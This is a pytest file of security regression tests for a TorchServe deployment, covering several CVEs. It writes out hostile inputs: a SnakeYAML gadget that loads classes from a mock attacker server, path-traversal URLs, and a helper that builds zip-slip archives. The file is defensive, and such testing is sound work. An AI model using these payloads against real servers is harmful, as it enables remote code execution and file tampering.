"""Each known vulnerability of TorchServe, tried against a server as `make serve` starts it: SECURITY.md's table."""

import http.server
import shutil
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

import psutil
import pytest
import requests

from scripts.torchserve.server import CONSOLE_LOG, Server
from tests.integration.conftest import STORE, serving
from tests.integration.contract import LITE0, TIMEOUT_S, post, torchserve


class Elsewhere(NamedTuple):
    """A web server that an attacker has: what was asked of it."""

    url: str
    asked: list[str]


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_HEAD = do_GET  # noqa: N815 - the names that http.server looks for

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield Elsewhere(f"http://127.0.0.1:{server.server_port}", asked)
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("security") / "store"
    folder.mkdir()
    shutil.copy(STORE / f"{LITE0}-eager-1.0.mar", folder)
    return folder


@pytest.fixture(scope="module")
def state(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("victim")


@pytest.fixture(scope="module")
def victim(state: Path, store: Path) -> Iterator[Server]:
    with serving(state, LITE0, store=store) as server:
        yield server


@pytest.fixture(autouse=True)
def serves_on_afterwards(victim: Server, cat: bytes) -> Iterator[None]:
    yield
    assert post(torchserve(victim), LITE0, cat).json()["class"] == "n02124075 Egyptian cat"


def register(victim: Server, url: str) -> requests.Response:
    """What an attacker who reaches the management API would send; `make register` would refuse most of it before."""
    parameters = {"url": url, "initial_workers": "1", "synchronous": "true"}
    return requests.post(f"{victim.addresses.management}/models", params=parameters, timeout=TIMEOUT_S)


def with_file(archive: Path, name: str, content: bytes, target: Path) -> Path:
    """A copy of an archive with one file more, or another instead."""
    with zipfile.ZipFile(archive) as source, zipfile.ZipFile(target, "w") as copy:
        for info in source.infolist():
            if info.filename != name:
                copy.writestr(info, source.read(info))
        copy.writestr(name, content)
    return target


# CVE-2023-43654: archives, and with them code, from any address
@pytest.mark.parametrize("path", ["/evil.mar", "/model_store/evil.mar", "/none"])
def test_no_archive_is_fetched_from_elsewhere(victim: Server, elsewhere: Elsewhere, path: str) -> None:
    assert register(victim, f"{elsewhere.url}{path}").status_code in (400, 403, 404)
    assert elsewhere.asked == []


def test_no_workflow_is_fetched_from_elsewhere(victim: Server, elsewhere: Elsewhere) -> None:
    url = f"{victim.addresses.management}/workflows"
    response = requests.post(url, params={"url": f"{elsewhere.url}/evil.war"}, timeout=TIMEOUT_S)
    assert not response.ok
    assert elsewhere.asked == []


# CVE-2024-35198: files from outside the store are copied into it by a path with dots
@pytest.mark.parametrize("url", ["file://{}", "{}", "../evil.mar", "file://{}/../evil.mar", "..%2Fevil.mar"])
def test_no_archive_is_taken_from_outside_the_store(victim: Server, store: Path, url: str) -> None:
    outside = store.parent / "evil.mar"
    shutil.copy(store / f"{LITE0}-eager-1.0.mar", outside)
    before = {path.name for path in store.iterdir()}
    assert register(victim, url.format(outside)).status_code in (400, 403, 404)
    assert {path.name for path in store.iterdir()} == before


# CVE-2024-35199: the gRPC ports listened on all addresses
def test_every_port_is_on_loopback(victim: Server) -> None:
    launcher = psutil.Process(victim.pid)
    processes = [launcher, *launcher.children(recursive=True)]
    listening = [
        connection.laddr
        for process in processes
        for connection in process.net_connections("inet")
        if connection.status == psutil.CONN_LISTEN
    ]
    ports = victim.addresses.ports()
    assert ports.pop("exporter") not in {address.port for address in listening}  # a process beside the server
    assert set(ports.values()) <= {address.port for address in listening}
    assert {address.ip.removeprefix("::ffff:") for address in listening} == {"127.0.0.1"}


# CVE-2023-48299: files of an archive land outside its folder
def test_an_archive_writes_nothing_outside_its_folder(victim: Server, store: Path) -> None:
    canary = store.parent / "canary"
    up = "../" * 12
    evil = with_file(store / f"{LITE0}-eager-1.0.mar", f"{up}{str(canary).lstrip('/')}", b"here", store / "slip.mar")
    assert not register(victim, evil.name).ok
    assert not canary.exists()
    evil.unlink()


# CVE-2022-1471: YAML that makes objects, and with them requests and code, in the front end's Java
def test_yaml_of_an_archive_makes_no_objects(
    victim: Server, state: Path, store: Path, elsewhere: Elsewhere, tiny_archive: Callable[..., Path]
) -> None:
    gadget = f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{elsewhere.url}/"]]]]'
    evil = with_file(tiny_archive(), "model-config.yaml", f"minWorkers: {gadget}\n".encode(), store / "yaml.mar")
    assert not register(victim, evil.name).ok
    assert "Global tag is not allowed" in (state / CONSOLE_LOG).read_text()
    assert elsewhere.asked == []
    evil.unlink()


def test_the_gadget_would_be_noticed(elsewhere: Elsewhere) -> None:
    """The check above can fail: what an object made by the YAML would do is seen."""
    requests.get(f"{elsewhere.url}/META-INF/services/javax.script.ScriptEngineFactory", timeout=TIMEOUT_S)
    assert elsewhere.asked == ["/META-INF/services/javax.script.ScriptEngineFactory"]
